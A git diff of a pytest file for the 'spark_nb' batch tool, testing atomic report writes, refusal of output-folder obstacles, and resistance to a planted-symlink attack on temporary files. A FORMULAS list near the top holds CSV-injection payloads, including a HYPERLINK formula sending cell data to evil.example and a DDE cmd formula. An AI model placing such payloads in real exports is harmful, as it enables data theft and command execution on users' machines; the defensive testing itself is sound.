@@ -5,7 +5,9 @@ file (real files, real signals, a real file-size limit)."""
 from __future__ import annotations
 
 import csv
+import errno
 import json
+import os
 import re
 import signal
 import subprocess
@@ -15,12 +17,16 @@ from urllib.parse import unquote
 
 import pytest
 
+from spark_nb import _files
 from spark_nb._files import write_atomically
+from spark_nb.errors import SparkError, ValidationError, WriteError
 from spark_nb.batch import ManifestError
 from spark_nb.batch._manifest import check_manifest, rows_to_run
 from spark_nb.batch._outcome import RowOutcome, RowStatus
 from spark_nb.batch._report import (OWN_NAMES, gallery, outcomes_html, write_gallery, write_gallery_notebook,
                                     write_results_csv, write_rows_json)
+
+from .conftest import TEST_KEY
 
 FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1:A9)",
             "\t=1+1", "\r=1+1", "  =1+1", "\uff1d1+1", "\x1b[2J=1+1"]
@@ -189,12 +195,15 @@ def test_a_row_named_like_the_batchs_own_files_is_refused(name: str, tmp_path: P
 
 def test_a_write_that_fails_leaves_the_old_file_and_no_temporary_one(tmp_path: Path) -> None:
     """A directory where the report goes (a row folder named index.html, before the manifest check refused it):
-    the write fails, nothing half-written, no .part left; an ordinary failure the same."""
+    the write fails with a SparkError naming the file and what to do (before: a bare IsADirectoryError), nothing
+    half-written, no .part left; an ordinary failure the same."""
     (tmp_path / "index.html").mkdir()
-    with pytest.raises(IsADirectoryError):
-        write_gallery(tmp_path, [RowOutcome("index.html", "m", RowStatus.COMPLETED, task_id="t0")])
-    with pytest.raises(IsADirectoryError):
-        write_atomically(tmp_path / "index.html", "x")
+    for write in (lambda: write_gallery(tmp_path, [RowOutcome("index.html", "m", RowStatus.COMPLETED, task_id="t0")]),
+                  lambda: write_atomically(tmp_path / "index.html", "x")):
+        with pytest.raises(WriteError) as info:
+            write()
+        assert isinstance(info.value, SparkError) and info.value.errno == errno.EISDIR
+        assert str(tmp_path / "index.html") in str(info.value) and "a folder is in its place" in str(info.value)
     assert temporary_files(tmp_path) == []
 
 
@@ -221,7 +230,7 @@ else:  # stop between writing the temporary file and renaming it, where a signal
 for write in (write_results_csv, write_rows_json, write_gallery_notebook, write_gallery):
     try:
         write(out, outcomes)
-    except OSError as exc:
+    except OSError as exc:  # a WriteError (a SparkError) is an OSError too
         print(type(exc).__name__, exc.errno, flush=True)
 """
 
@@ -240,7 +249,7 @@ def test_a_full_disk_mid_write_leaves_the_old_reports_and_no_temporary_file(tmp_
     old = _old_reports(tmp_path)
     proc = subprocess.run([sys.executable, "-c", WRITER, str(tmp_path), "fsize"], capture_output=True, text=True,
                           timeout=120)
-    assert proc.stdout.count("OSError 27") == 4, proc.stdout + proc.stderr  # EFBIG, once per report
+    assert proc.stdout.count("WriteError 27") == 4, proc.stdout + proc.stderr  # EFBIG, once per report
     assert {name: (tmp_path / name).read_bytes() for name in old} == old
     assert temporary_files(tmp_path) == []
 
@@ -272,3 +281,94 @@ def test_a_signal_mid_write_never_leaves_a_half_report_nor_a_lasting_temporary_f
     with (tmp_path / "results.csv").open(newline="") as f:
         assert [row["name"] for row in csv.DictReader(f)] == ["earlier"]
     assert json.loads((tmp_path / "rows.json").read_text())["rows"][0]["name"] == "earlier"
+
+
+def test_no_part_file_is_written_through_a_link_planted_at_its_name(tmp_path: Path, media: dict[str, Path],
+                                                                   monkeypatch: pytest.MonkeyPatch) -> None:
+    """Another user plants a symlink where a report's temporary file is about to be made (its name had been
+    predictable: pid and thread): the write fails, the link's target is untouched (before: overwritten)."""
+    victim = tmp_path / "victim.txt"
+    victim.write_text("precious", encoding="utf-8")
+    real = _files.part_path
+
+    def planted(path: Path, *args: str) -> Path:
+        part = real(path, *args)
+        part.symlink_to(victim)
+        return part
+
+    monkeypatch.setattr(_files, "part_path", planted)
+    out = tmp_path / "out"
+    out.mkdir()
+    for write in (lambda: write_atomically(out / "results.csv", "name\n"),
+                  lambda: write_rows_json(out, [RowOutcome("a", "m", RowStatus.COMPLETED, task_id="t0")]),
+                  lambda: _files.link_atomically(media["speech"], out / "speech.wav")):
+        with pytest.raises(OSError):
+            write()
+    assert victim.read_text(encoding="utf-8") == "precious"
+    assert not (out / "results.csv").exists() and not (out / "speech.wav").exists()
+
+
+def _obstacle(case: str, out: Path) -> None:
+    if case == "out is a file":
+        out.write_text("x")
+        return
+    out.mkdir()
+    if case == "a folder at results.csv":
+        (out / "results.csv").mkdir()
+    elif case == "a folder at index.html":
+        (out / "index.html").mkdir()
+    elif case == "a file at media":
+        (out / "media").write_text("x")
+    elif case == "a file at a row's folder":
+        (out / "alice").write_text("x")
+    elif case == "a FIFO at rows.json":
+        os.mkfifo(out / "rows.json")
+
+
+@pytest.mark.parametrize("case", ["out is a file", "a folder at results.csv", "a folder at index.html",
+                                  "a file at media", "a file at a row's folder", "a FIFO at rows.json"])
+def test_an_obstacle_in_the_output_folder_is_refused_before_anything_is_paid(
+        case: str, tmp_path: Path, media: dict[str, Path], make_server: type,
+        monkeypatch: pytest.MonkeyPatch) -> None:
+    """Something already where the batch writes (a folder named results.csv, the output folder a file, a file
+    where a row's folder goes): refused with a ValidationError naming it, nothing uploaded or created, nothing
+    changed in the folder. Before, every row was paid for, then the batch crashed with IsADirectoryError or
+    FileExistsError, on every rerun too."""
+    from spark_nb.batch import run_batch
+
+    from .test_batch import use_server, write_manifest
+
+    server = make_server(api_key=TEST_KEY)
+    use_server(monkeypatch, server)
+    manifest = write_manifest(tmp_path, [
+        {"name": name, "model": "avatar", "image": str(media["portrait"]), "audio": str(media["speech"])}
+        for name in ("alice", "bob")])
+    out = tmp_path / "out"
+    _obstacle(case, out)
+    before = sorted(p.name for p in out.iterdir()) if out.is_dir() else out.read_text()
+    with pytest.raises(ValidationError) as info:
+        run_batch(manifest, out, progress=False)
+    assert info.value.reason == "unusable_output_dir" and "nothing was run or paid" in str(info.value)
+    assert str(out) in str(info.value)
+    assert server.stats()["created"] == server.stats()["uploads"] == 0
+    assert (sorted(p.name for p in out.iterdir()) if out.is_dir() else out.read_text()) == before
+
+
+def test_the_cli_refuses_an_obstacle_in_one_line_before_anything_runs(tmp_path: Path, media: dict[str, Path],
+                                                                      make_server: type) -> None:
+    """`spark-nb batch` with a folder named index.html in --out: exit 1, one `spark-nb: error:` line naming it,
+    no traceback, nothing created."""
+    from .test_batch import write_manifest
+
+    server = make_server(api_key=TEST_KEY)
+    manifest = write_manifest(tmp_path, [{"name": "alice", "model": "avatar", "image": str(media["portrait"]),
+                                          "audio": str(media["speech"])}])
+    (tmp_path / "out" / "index.html").mkdir(parents=True)
+    env = {**os.environ, "VTRIX_API_KEY": TEST_KEY, "VTRIX_GENERATION_URL": server.url, "SPARK_NB_BACKEND": "cloud",
+           "SPARK_NB_UPLOAD_URL": f"{server.url}/api/v1/storage/files"}
+    proc = subprocess.run([sys.executable, "-m", "spark_nb", "batch", str(manifest), "--out", str(tmp_path / "out")],
+                          capture_output=True, text=True, env=env, timeout=120)
+    assert proc.returncode == 1, proc.stderr
+    assert proc.stderr.startswith("spark-nb: error: the batch cannot write into its output folder")
+    assert str(tmp_path / "out" / "index.html") in proc.stderr and "Traceback" not in proc.stderr
+    assert server.stats()["created"] == server.stats()["uploads"] == 0
